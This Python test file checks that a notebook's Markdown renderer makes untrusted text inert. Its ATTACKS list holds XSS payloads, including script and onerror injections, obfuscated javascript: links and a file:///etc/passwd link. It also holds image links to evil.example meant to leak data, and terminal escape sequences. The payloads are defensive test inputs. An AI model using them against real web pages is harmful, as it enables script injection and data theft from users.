"""Markdown of unknown origin becomes safe HTML, and text safe for a terminal."""

import re
from collections.abc import Sequence
from decimal import Decimal
from html import unescape
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from svc_notebook.display.escape import to_terminal, to_text, visible
from svc_notebook.display.markdown import block_tokens, tables, to_html
from svc_notebook.display.reply_display import Final

_AWAY = {"href", "rel", "target"}
_ALLOWED: dict[str, set[str]] = {
    **{f"h{level}": {"class"} for level in range(1, 7)},
    **{tag: set() for tag in ("ul", "li", "em", "s", "br", "hr")},
    **{tag: set() for tag in ("table", "thead", "tbody", "tr", "blockquote", "code")},
    "p": {"style"},
    "strong": {"style"},
    "ol": {"start"},
    "th": {"style"},
    "td": {"style"},
    "pre": {"style"},
    "code": {"style"},
    "div": {"class", "style", "data-no-cell", "data-magic"},
    "span": {"class", "style"},
    "a": _AWAY,
}
_CLASS = re.compile(r"highlight|jp-toc-ignore|[a-z][a-z0-9]{0,2}|err")
_HREF = re.compile(r"(https?://[^/\\]|mailto:|#)", re.IGNORECASE)
_VOID = {"br", "hr"}


class _Inspector(HTMLParser):
    """Collects what is not allowed, and the text that is read."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.text = ""
        self.left_open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _ALLOWED:
            self.faults.append(f"<{tag}>")
        self.faults += [f for name, value in attrs if (f := _fault(tag, name, value))]
        if tag not in _VOID:
            self.left_open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag in _VOID:
            return
        if not self.left_open or self.left_open.pop() != tag:
            self.faults.append(f"</{tag}>")

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"<!{decl}")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"<?{data}")


def _fault(tag: str, name: str, value: str | None) -> str | None:
    is_right = name in _ALLOWED.get(tag, set()) and value is not None
    if is_right and name == "href":
        is_right = _HREF.match(value or "") is not None
    if is_right and name == "class":
        is_right = _CLASS.fullmatch(value or "") is not None
    if is_right and name == "style":
        is_right = "url(" not in (value or "")
    return None if is_right else f"<{tag} {name}={value!r}>"


def _inspected(html: str) -> _Inspector:
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    inspector.faults += [f"<{tag}> left open" for tag in inspector.left_open]
    return inspector


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)" onclick=alert(1)>x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<svg onload=alert(1)><animate onbegin=alert(1)/></svg>",
    "<style>body{background:url(http://x/y)}</style>",
    "<form action=http://x><input name=a><button>Log in</button></form>",
    "<div id=jupyter-config-data>{}</div>",
    "<base href=http://x/><meta http-equiv=refresh content=0>",
    "</pre></div></div><script>alert(1)</script>",
    "```\n</pre><script>alert(1)</script>\n```",
    "```html\n</pre></span><img src=x onerror=alert(1)>\n```",
    '```"><script>alert(1)</script>\ncode\n```',
    "``</code><script>alert(1)</script>``",
    "![x](http://evil.example/?leak=1)",
    "![x][1]\n\n[1]: http://evil.example/pixel.png",
    "[![x](http://evil.example/a.png)](http://evil.example)",
    '![x](http://e.example/"onerror="alert(1))',
    "![](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[x](/api/shutdown)",
    "[x](//evil.example)",
    "[x](https:/\\evil.example)",
    "[x](blob:http://x/1)",
    "<javascript:alert(1)>",
    "[x]\n\n[x]: javascript:alert(1)",
    '[x](http://e.example "\\"onmouseover=alert(1) x=\\"")',
    "[x](http://e.example/'onmouseover='alert(1))",
    "| <script> | a |\n|--|--|\n| <img src=x onerror=alert(1)> | `</td><script>` |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<!-- --><![CDATA[<script>]]><?php ?><!DOCTYPE html>",
    "$\\href{javascript:alert(1)}{x}$ $<script>$ \\(</p><img src=x>\\)",
    "$$\n</p><script>alert(1)</script>\n$$",
    "\x00<\x00script>",
]


@pytest.mark.slow
@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("frame", ["{}", "> {}", "- a\n\n  {}", "**{}**", "# {}"])
def test_attacks_are_inert(attack: str, frame: str) -> None:
    """No attack brings a tag, an attribute or a scheme that is not allowed."""
    html = to_html(frame.replace("{}", attack))

    assert _inspected(html).faults == []


_BITS = st.sampled_from(
    (
        *ATTACKS,
        *("`", "```", "~~~", "\n", "\n\n", "- ", "1. ", "> ", "    ", "|", "|-|\n"),
        *("[", "](", ")", "![", "<", ">", '"', "'", "&", "&#", ";", "\\", "$", "$$"),
        *("\\(", "\\]", "*", "**", "~~", "[a]: ", "http://", "javascript:", "\r"),
        *("python", "html"),
    )
)


@pytest.mark.slow
@given(st.lists(_BITS | st.text(max_size=8), max_size=25).map("".join))
def test_any_text_gives_only_allowed_html(markdown: str) -> None:
    """Whatever the text, tags are allowed, balanced, and carry allowed values."""
    final = Final(texts=(markdown, markdown), footer=markdown, marks=(markdown,))

    html = to_html(markdown) + final.bundle()["text/html"]

    assert _inspected(html).faults == []


@pytest.mark.slow
@given(st.text(max_size=60))
def test_escaped_text_reads_as_written(text: str) -> None:
    """Text is read in HTML as it was written, its controls made visible."""
    got = _inspected(to_text(text)).text

    assert got == visible(text)


def test_pictures_become_links() -> None:
    """A picture is never fetched; it is a link that says what it shows."""
    html = to_html("![a chart](https://example.org/a.png)")

    assert html == (
        '<p><a href="https://example.org/a.png" rel="noopener noreferrer" '
        "target=_blank>a chart</a></p>\n"
    )


def test_a_picture_in_a_link_is_its_text() -> None:
    """Links are not nested: a picture within one leaves its description."""
    html = to_html("[![logo](http://a.example/l.png)](#top)")

    assert html == '<p><a href="#top">logo</a></p>\n'


def test_refused_links_stay_readable() -> None:
    """A link that leads elsewhere is shown as the text it was."""
    html = to_html("[x](javascript:alert(1))")

    assert html == "<p>[x](javascript:alert(1))</p>\n"


@pytest.mark.parametrize(
    "text",
    [
        *("$x^2$", "$n$", "$$a_1$$", "\\(y\\)", "\\[ a = b \\]", "$a*b*c$", "$2x+1$"),
        *("$\\text{cost} = \\$5 \\times 3 = \\$15$", "$\\$5 + x$", "$x \\\\$"),
    ],
)
def test_math_reaches_the_host_unchanged(text: str) -> None:
    """Math keeps its delimiters, and Markdown does not touch what is within."""
    html = to_html(text)

    assert re.sub(r"</?span[^>]*>| style=[^>]*", "", html) == f"<p>{text}</p>\n"
    assert "overflow-x:auto" in html


# Each price and each formula, also together with the others in a sentence.
PRICES = (
    *("US$5", "$5 and $10", "$5-$10", "$10/$20", "$.50/$.75", "$5, or 6$", "$5/month"),
    *(
        "$1,000 to $2,000",
        "$5k-$10k",
        "5$-10$",
        "5$, 10$",
        "10$/20$",
        "ราคา $5 และ $10",
    ),
    *("ราคา$5ถึง$10บาท", "-$5", "$5 (US$)", "$HOME/$USER", "A$1:B$2", "$5 per 100"),
)
NUMBERS = (
    *("$0.72$", "$.5$", "$5$", "$1,000$", "$-3$", "$3/4$", "$10-20$", "$1, 2, 3$"),
    *("$2n$", "$5!$", "$3 * 4$", "$2x+1$", "$50\\%$", "$P=0.9$", "$(1, 2)$"),
)


@pytest.mark.parametrize("text", NUMBERS)
@pytest.mark.parametrize(
    "sentence", ["{}", "It is {}.", "({}, that is)", "a {}-{} b", "**{}**", "คือ{}และ"]
)
def test_a_number_between_dollars_is_math(text: str, sentence: str) -> None:
    """The second dollar follows the number at once, and no digit follows it."""
    assert f"{text}" in _inspected(to_html(sentence.replace("{}", text))).text
    assert "<span>$</span>" not in to_html(sentence.replace("{}", text))


@pytest.mark.parametrize(
    "text",
    ["the $n$th", "$10$th", "ค่า$x$คือ", "其中$x$是", "5$\\sigma$", "10$^{-3}$"],
)
def test_math_within_words_is_math(text: str) -> None:
    """An ordinal, a factor, or a script without spaces between words."""
    assert "<span>$</span>" not in to_html(text)


@given(st.lists(st.sampled_from([*PRICES, *NUMBERS]), min_size=1, max_size=6))
def test_prices_and_numbers_may_share_a_sentence(items: list[str]) -> None:
    """Every dollar of a price is text, and none of a number, in any order."""
    html = to_html(" or ".join(items))

    n_of_prices = sum(item.count("$") for item in items if item in PRICES)
    assert html.count("<span>$</span>") == n_of_prices


@given(st.decimals(0, 10**6, places=2), st.decimals(0, 10**6, places=2))
def test_a_range_of_prices_is_text(low: Decimal, high: Decimal) -> None:
    """Whatever sign is between them."""
    for sign in ("-", "\N{EN DASH}", "/", " to ", " and ", ", ", ":", " (", "+", " = "):
        html = to_html(f"costs ${low}{sign}${high} each")
        assert html.count("<span>$</span>") == 2


def test_punctuation_stays_on_the_line_of_a_formula() -> None:
    """A full stop alone would begin the next line; display math has its own line."""
    html = to_html(
        "From $a<b$, ($x$), and a $t$-test of $n$ it is \\(y\\). $$z$$. **$b$**."
    )

    unbroken = re.findall(r"<span style=white-space:nowrap>(.*?)</span>", html)
    assert unbroken == ["$a&lt;b$,", "$x$),", "$t$-", "\\(y\\)."]
    text = "From $a<b$, ($x$), and a $t$-test of $n$ it is \\(y\\). $$z$$. $b$."
    assert _inspected(html).text.strip() == text


def test_a_percent_sign_within_math_is_shown() -> None:
    """TeX would take the bare sign, and what follows it, as a comment."""
    assert r"$50\%$" in to_html("$50%$")
    assert r"$$x = 5\%$$" in to_html("$$x = 5%$$")
    assert r"$5\%$" in to_html(r"$5\%$")


@pytest.mark.parametrize(
    ("row", "cells"),
    [
        ("| $|r|$ | correlation |", ("$|r|$", "correlation")),
        ("$P(A|B)$ | $|x| \\le 1$", ("$P(A|B)$", "$|x| \\le 1$")),
        ("| norm | $$|v|$$ |", ("norm", "$$|v|$$")),
        ("| $5 | $6 |", ("$5", "$6")),
        ("|$5|$6|", ("$5", "$6")),
        ("|$|€|", ("$", "€")),
        ("| US$ | A$ |", ("US$", "A$")),
        (r"| \$|a$ |", ("$", "a$")),
        (r"| $\|r$ | b |", ("$|r$", "b")),
    ],
)
def test_a_formula_in_a_table_keeps_its_bars(row: str, cells: tuple[str, ...]) -> None:
    """A bar between the dollars of a formula ends no cell; money is no formula."""
    assert tables(f"| a | b |\n|---|---|\n{row}\n")[0][1] == cells
    assert tables(f"{row}\n|---|---|\n")[0][0] == cells


_PLAIN = MarkdownIt("commonmark").enable("table").disable("inline")


@given(
    st.lists(
        st.sampled_from(["|", "\n", "|--|--|\n", "a", " ", "> ", "- ", "\\", "`"]),
        max_size=30,
    ).map("".join)
)
def test_tables_without_dollars_are_read_as_markdown_says(text: str) -> None:
    """The cells are those that the parser finds by itself."""

    def cells(tokens: Sequence[Token]) -> list[tuple[str, str]]:
        return [(token.type, token.content) for token in tokens]

    with_a_formula_below = [*block_tokens(f"{text}\n\n# $|r|$\n")]
    expected = cells(_PLAIN.parse(f"{text}\n\n# $|r|$\n"))

    assert cells(block_tokens(text)) == cells(_PLAIN.parse(f"{text}\n"))
    assert cells(with_a_formula_below) == expected


def test_lines_of_a_paragraph_stay_lines() -> None:
    """As a letter or a poem is written; a formula of its own line needs no break."""
    html = to_html("Best regards,\n**Suda**  \nฝ่ายต้อนรับ\n\n- one\n  two\n\n> a\n> b\n")
    formula = to_html("It is\n$$x$$\nhere\n")

    assert [line.strip() for line in re.sub("<(?!br)[^>]*>", "", html).split("\n")] == [
        *("Best regards,<br>", "Suda<br />", "ฝ่ายต้อนรับ"),
        *("", "one<br>", "two", "", "", "a<br>", "b", "", ""),
    ]
    assert "<br" not in formula


def test_math_over_lines_is_one_paragraph() -> None:
    """Lines of math are not read as lists or headings."""
    html = to_html("$$\nx\n- y\n=\nz\n$$\n")

    assert (
        re.sub("</?span[^>]*>| style=[^>]*", "", html)
        == "<p>$$\nx\n- y\n=\nz\n$$</p>\n"
    )


_ALIGN = r"""\begin{align}
a &= b_1 < 2 \\
- c &= 5*x*y \\[2pt]
  \begin{cases} 1 & x > 0 \\ 0 \end{cases}
\end{align}"""


def _formulas(html: str) -> list[str]:
    return re.findall(r"<span style=[^>]*display:block>(.*?)</span>", html, re.DOTALL)


@pytest.mark.parametrize(
    "name",
    ["align", "equation*", "gather", "multline*", "eqnarray", "alignat", "flalign"],
)
@pytest.mark.parametrize(
    ("around", "indent"),
    [
        *(("{}", ""), ("It is\n{}\nhere", ""), ("> It is\n> {}", "> ")),
        *(("1. It is\n\n   {}\n2. b", "   "), ("- {}\n", "  ")),
    ],
)
def test_an_environment_reaches_the_host_unchanged(
    name: str, around: str, indent: str
) -> None:
    """As display math does, without dollars around it."""
    formula = _ALIGN.replace("{align}", f"{{{name}}}")

    html = to_html(around.replace("{}", formula.replace("\n", f"\n{indent}")))

    (shown,) = _formulas(html)
    lines = [line.strip() for line in unescape(shown).split("\n")]
    assert lines == [line.strip() for line in formula.split("\n")]
    assert "<br" not in html


def test_an_environment_within_a_line_is_display_math() -> None:
    """Words may stand before and after it."""
    html = to_html("So \\begin{align*}a &= b \\\\\nc &= d\\end{align*} is\n")

    assert _formulas(html) == [
        "\\begin{align*}a &amp;= b \\\\\nc &amp;= d\\end{align*}"
    ]


@pytest.mark.parametrize(
    "formula", ["$$\nx_1\n$$", "\\[\nx_1\n\\]", "\\begin{align}\nx_1\n\\end{align}"]
)
@pytest.mark.parametrize("words", [".", ", where $n$ is **it**"])
def test_words_may_follow_the_end_of_display_math(formula: str, words: str) -> None:
    """A sentence often ends behind it, or goes on."""
    html = to_html(f"It is\n{formula}{words}\nNext\n")

    assert _formulas(html) == [formula]
    assert f"{formula}{words}".replace("**", "") in _inspected(html).text
    assert ("<strong" in html) == ("**" in words)


def test_a_label_is_not_given_to_the_host() -> None:
    """It would refuse the formula when it is drawn a second time on a page."""
    html = to_html("\\begin{align}\na \\label{eq:1} \\\\\nb\\label{b}\n\\end{align}\n")

    assert _formulas(html) == ["\\begin{align}\na  \\\\\nb\n\\end{align}"]
    assert "$x$" in to_html("$x\\label{x}$")


def test_an_environment_in_code_is_code() -> None:
    """Between backticks, in a fence, or indented."""
    indented = _ALIGN.replace("\n", "\n    ")
    line = "\\begin{align}x\\end{align}"

    for text in (f"`{line}`", f"```latex\n{_ALIGN}\n```", f"    {indented}"):
        assert "<code" in to_html(text)
        assert not _formulas(to_html(text))


@pytest.mark.parametrize(
    "text",
    [
        "$5 and $6",
        "US$5, A$6",
        "$5, or 6$",
        "costs $10-$20",
        "$HOME/$USER",
        *("\\$3", "from $5 to \\$6 or 7$", "\\$3 or 5\\$ or \\$6"),
        "$\\href{javascript:alert(1)}{x}$",
        "\\begin{align}x",
        "\\begin{align}\nx &= 1 \\\\\n\n\\end{align}",
        "\\begin{align}x\\end{align*}",
        "\\begin{align}\n\\href{javascript:alert(1)}{x}\n\\end{align}",
        "\\begin{itemize}\n\\item x\n\\end{itemize}",
        "\\begin{document}x\\end{document}",
        "\\\\begin{align}x\\end{align}",
        "\\\\(x\\\\)",
    ],
)
def test_what_is_not_math_is_never_typeset(text: str) -> None:
    """Money and macros stand alone: between two delimiters there is a tag."""
    html = to_html(text)

    assert not re.search(r"\$[^<]*\$|\\\(|\\\[|\\begin", html)


def test_code_is_coloured_by_class() -> None:
    """A fence of a known language carries the class names hosts style."""
    html = to_html("```Python\ndef f(): pass\n```")

    assert "<span class=k>def</span> <span class=nf>f</span>(): " in html


@pytest.mark.slow
@given(st.text(alphabet="def x=1\n\t'\"#:()", max_size=80))
def test_colours_lose_no_character(code: str) -> None:
    """Coloured code reads exactly as plain code does."""
    source = f"~~~python\n{code}\n~~~"

    got = _inspected(to_html(source)).text

    assert got == _inspected(to_html(source, highlight=False)).text


def test_entities_do_not_bring_controls_back() -> None:
    """A control or override written as an entity is visible like any other."""
    html = to_html("&#x202E;abc &#27;[0m")

    assert html == "<p>⟨U+202E⟩abc \ufffd[0m</p>\n"


def test_tables_scroll_and_read_from_the_left() -> None:
    """A table scrolls by itself, and only stated alignment differs from left."""
    html = to_html("|a|b|\n|-|-:|\n|1|2|")

    assert html.startswith("<div style=overflow-x:auto><table>")
    assert re.findall(r"text-align:\w+>\w", html) == [
        "text-align:left>a",
        "text-align:right>b",
        "text-align:left>1",
        "text-align:right>2",
    ]


@pytest.mark.parametrize("text", [">" * 300 + " deep", "- " * 300 + "deep"])
def test_text_nested_too_deep_is_shown_as_written(text: str) -> None:
    """No depth of nesting makes text vanish; past a limit it is not Markdown."""
    html = to_html(text)

    assert (_inspected(html).text.strip(), _inspected(html).faults) == (text, [])


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("\x1b[2Jx", r"\x1b[2Jx"),
        ("\x1b]52;c;aGk=\x07", r"\x1b]52;c;aGk=\a"),
        ("\x9b31m", r"\x9b31m"),
        ("a\bb\rc\x7f\x00", r"a\bb\rc\x7f\x00"),
        ("\u202eabc\u2069", r"\u202eabc\u2069"),
        ("\ud800", r"\ud800"),
    ],
    ids=["csi", "osc", "c1", "controls", "bidi", "surrogate"],
)
def test_terminal_controls_become_escapes(text: str, expected: str) -> None:
    """What a terminal would obey is shown as an escape."""
    got = to_terminal(text)

    assert got == expected


@pytest.mark.parametrize(
    "text",
    [
        "สวัสดีครับ ก็ได้",
        "👩‍👩‍👧 🇹🇭",
        "a < b & c\n\tด",
        "שלום\u200f!",
        "x\u200by",
        "e\u0301",
    ],
)
def test_ordinary_text_is_unchanged(text: str) -> None:
    """Thai, joined emoji, marks and right-to-left letters stay as they are."""
    got = (to_terminal(text), visible(text))

    assert got == (text, text)


def test_html_shows_controls_as_pictures() -> None:
    """In HTML a control is a picture, a bidi override a name, a surrogate U+FFFD."""
    got = visible("\x1b\x7f\u202e\x85\ud83d")

    assert got == "\u241b\u2421⟨U+202E⟩⟨U+0085⟩\ufffd"


def test_long_lines_of_code_scroll() -> None:
    """Hosts wrap `code` too, so the element itself keeps its lines."""
    html = to_html("```\nx\n```")

    assert re.search(r"<pre style=[^>]*overflow:auto", html)
    assert re.search(r"<code style=[^>]*white-space:pre>", html)


def test_headings_stay_headings_but_are_not_in_the_outline() -> None:
    """JupyterLab's outline skips their class; other hosts show them as usual."""
    assert to_html("## Plan") == '<h2 class="jp-toc-ignore">Plan</h2>\n'
